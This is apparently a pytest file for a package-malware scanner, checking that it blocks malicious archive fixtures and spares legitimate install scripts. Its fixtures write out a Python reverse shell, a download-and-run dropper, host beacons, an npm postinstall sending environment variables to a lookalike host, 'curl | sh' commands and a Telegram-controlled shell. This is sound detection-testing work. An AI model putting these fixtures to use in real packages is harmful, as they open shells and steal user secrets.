"""Behaviour combinations the engine scores, and the legitimate look-alikes it must spare.

Fixtures are inert text modelled on published PyPI/npm malware families (no working payloads) and
on how popular packages really ship install scripts, docs and tests.
"""

import base64
import json

from scans.engine import scan_archive

from .conftest import make_tgz

BLOCKING = ("high", "critical")


def sdist(name: str, files: dict[str, str | bytes]) -> bytes:
    setup = f"from setuptools import setup\nsetup(name='{name}', version='1.0.0', packages=['{name}'])\n"
    return make_tgz({"setup.py": setup, "PKG-INFO": f"Name: {name}\nVersion: 1.0.0\n", **files}, root=f"{name}-1.0.0/")


def rule_ids(result) -> set[str]:
    return {f.rule_id for f in result.findings if f.points > 0}


def test_python_reverse_shell_module_is_blocked(rules):
    shell = (
        "import socket, subprocess\n\n"
        "def connect():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "    s.connect(('203.0.113.7', 4444))\n"
        "    while True:\n"
        "        command = s.recv(1024).decode()\n"
        "        out = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)\n"
        "        s.send(out.stdout.read())\n"
    )
    result = scan_archive(sdist("netutil", {"netutil/core.py": shell}), rules, filename="netutil-1.0.0.tar.gz")
    assert "eng_combo_reverse_shell" in rule_ids(result)
    assert result.verdict in BLOCKING


def test_interactive_shell_piped_to_a_socket_is_blocked(rules):
    shell = (
        "import os, socket, subprocess\n"
        "HOST = os.getenv('RS_HOST', '203.0.113.7')\n"
        "s = socket.create_connection((HOST, 1337))\n"
        "proc = subprocess.Popen(\n    ['cmd.exe'],\n    stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
    )
    result = scan_archive(sdist("rshell", {"rshell/rce.py": shell}), rules, filename="rshell-1.0.0.tar.gz")
    assert "eng_combo_reverse_shell" in rule_ids(result)
    assert result.verdict in BLOCKING


def test_download_then_run_dropper_is_blocked(rules):
    dropper = (
        "import os, urllib.request, subprocess, requests\n\n"
        "def update(url):\n"
        "    file_path = os.path.join('storage', 'helper.exe')\n"
        "    urllib.request.urlretrieve(url, file_path)\n"
        "    subprocess.run([file_path], check=True)\n\n"
        "def init():\n"
        "    link = requests.get('https://updates.example.net/api/win').json()['link']\n"
        "    update(link)\n"
    )
    result = scan_archive(sdist("helperlib", {"helperlib/helper.py": dropper}), rules, filename="helperlib-1.0.0.tar.gz")
    assert "eng_combo_download_run" in rule_ids(result)
    assert result.verdict in BLOCKING


def test_import_time_host_beacon_is_blocked(rules):
    beacon = (
        "import requests, getpass, socket, os\n"
        "requests.post('https://collector.example.net/pypi/', json={\n"
        "    'user': getpass.getuser(), 'cwd': os.getcwd(), 'hostname': socket.gethostname()})\n"
    )
    result = scan_archive(sdist("beaconpkg", {"beaconpkg/__init__.py": beacon}), rules, filename="beaconpkg-1.0.0.tar.gz")
    assert "eng_combo_host_beacon" in rule_ids(result)
    assert result.verdict in BLOCKING


def test_aliased_base64_exec_is_critical(rules):
    payload = base64.b64encode(b"print('inert fixture')\n" * 4).decode()
    loader = f"import base64 as b;exec(b.b64decode('{payload}'))\n"
    result = scan_archive(sdist("aliaspkg", {"aliaspkg/__init__.py": loader}), rules, filename="aliaspkg-1.0.0.tar.gz")
    assert "sig_012" in rule_ids(result)
    assert result.verdict == "critical"


def test_base64_executable_embedded_in_setup_py_is_blocked(rules):
    fake_pe = base64.b64encode(b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256)) * 2).decode()
    setup = (
        "import subprocess, base64, tempfile, os\n"
        f"blob = '{fake_pe}'\n"
        "from setuptools import setup\nsetup(name='socks4x', version='1.0.0')\n"
    )
    data = make_tgz({"setup.py": setup, "PKG-INFO": "Name: socks4x\n"}, root="socks4x-1.0.0/")
    result = scan_archive(data, rules, filename="socks4x-1.0.0.tar.gz")
    assert "eng_embedded_executable" in rule_ids(result)
    assert result.verdict in BLOCKING


def test_install_instructions_in_a_docstring_weigh_little(rules):
    module = (
        "import os, sys\n\n"
        "def installed_with_script() -> bool:\n"
        '    """True when installed with one of\n\n'
        "        curl -LsSf https://tool.example.org/install.sh | bash\n"
        '        powershell -ExecutionPolicy ByPass -c "irm https://tool.example.org/install.ps1 | iex"\n'
        '    """\n'
        "    return 'tool' in sys.prefix\n"
    )
    result = scan_archive(sdist("runprobe", {"runprobe/runtime.py": module}), rules, filename="runprobe-1.0.0.tar.gz")
    assert result.verdict in ("clean", "low")


def test_the_same_command_in_code_still_counts(rules):
    module = "import os\n\ndef bootstrap():\n    os.system('curl -LsSf https://tool.example.org/install.sh | bash')\n"
    result = scan_archive(sdist("runprobe", {"runprobe/runtime.py": module}), rules, filename="runprobe-1.0.0.tar.gz")
    assert "sig_025" in rule_ids(result)
    assert result.score >= 10


def test_binary_installer_postinstall_from_the_registry_is_low(rules):
    # Modelled on esbuild/sharp: postinstall fetches the platform package from the npm registry.
    install_js = (
        "var fs = require('fs'); var https = require('https'); var child_process = require('child_process');\n"
        "var BINARY_PATH = process.env.TOOL_BINARY_PATH;\n"
        "function fetch(url) { return new Promise((res, rej) => https.get(url, (r) => res(r))); }\n"
        "async function main() {\n"
        "  const url = 'https://registry.npmjs.org/@tool/linux-x64/-/linux-x64-1.0.0.tgz';\n"
        "  try { await fetch(url); } catch (e) {\n"
        "    child_process.execSync('npm install --no-save @tool/linux-x64@1.0.0', { stdio: 'pipe' });\n"
        "  }\n"
        "}\nmain();\n"
    )
    pkg = json.dumps({"name": "tool", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}})
    result = scan_archive(make_tgz({"package.json": pkg, "install.js": install_js}), rules, filename="tool-1.0.0.tgz", ecosystem="npm")
    assert result.verdict in ("clean", "low")


def test_postinstall_that_beacons_environment_is_still_blocked(rules):
    install_js = (
        "const https = require('https'); const os = require('os');\n"
        "const data = JSON.stringify(process.env);\n"
        "https.request({hostname: 'registry.npmjs.org.evil.example', path: '/c?h=' + os.hostname(), method: 'POST'}).end(data);\n"
    )
    pkg = json.dumps({"name": "tool", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}})
    result = scan_archive(make_tgz({"package.json": pkg, "install.js": install_js}), rules, filename="tool-1.0.0.tgz", ecosystem="npm")
    assert result.verdict in BLOCKING


def test_postinstall_requiring_a_local_file_is_judged_by_that_file(rules):
    pkg = json.dumps({"name": "polyfills", "version": "1.0.0",
                      "scripts": {"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""}})
    banner = "var env = process.env;\nif (!env.CI) console.log('Thank you for using polyfills!');\n"
    result = scan_archive(make_tgz({"package.json": pkg, "postinstall.js": banner}), rules, filename="polyfills-1.0.0.tgz", ecosystem="npm")
    assert result.verdict in ("clean", "low")


def test_inline_node_eval_in_postinstall_is_still_flagged(rules):
    pkg = json.dumps({"name": "evil", "version": "1.0.0",
                      "scripts": {"postinstall": "node -e \"require('child_process').exec('curl -s https://x.example/a | sh')\""}})
    result = scan_archive(make_tgz({"package.json": pkg}), rules, filename="evil-1.0.0.tgz", ecosystem="npm")
    assert "eng_npm_postinstall" in rule_ids(result)
    assert result.verdict in BLOCKING


def test_scoped_npm_names_are_not_typosquats(rules):
    pkg = json.dumps({"name": "@swc/core", "version": "1.0.0"})
    result = scan_archive(make_tgz({"package.json": pkg, "index.js": "module.exports = {}\n"}), rules, filename="core-1.0.0.tgz", ecosystem="npm")
    assert "eng_typosquat" not in rule_ids(result)


def test_telegram_controlled_shell_is_blocked(rules):
    bot = (
        "import subprocess, requests\n"
        "BOT_TOKEN = '8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac'\n"
        "def handle(cmd):\n"
        "    out = subprocess.check_output(cmd, shell=True, text=True)\n"
        "    requests.post(f'https://api.telegram.org/bot{BOT_TOKEN}/sendMessage', data={'text': out})\n"
    )
    result = scan_archive(sdist("botctl", {"botctl/__init__.py": bot}), rules, filename="botctl-1.0.0.tar.gz")
    assert "eng_combo_c2_exec" in rule_ids(result)
    assert result.verdict in BLOCKING
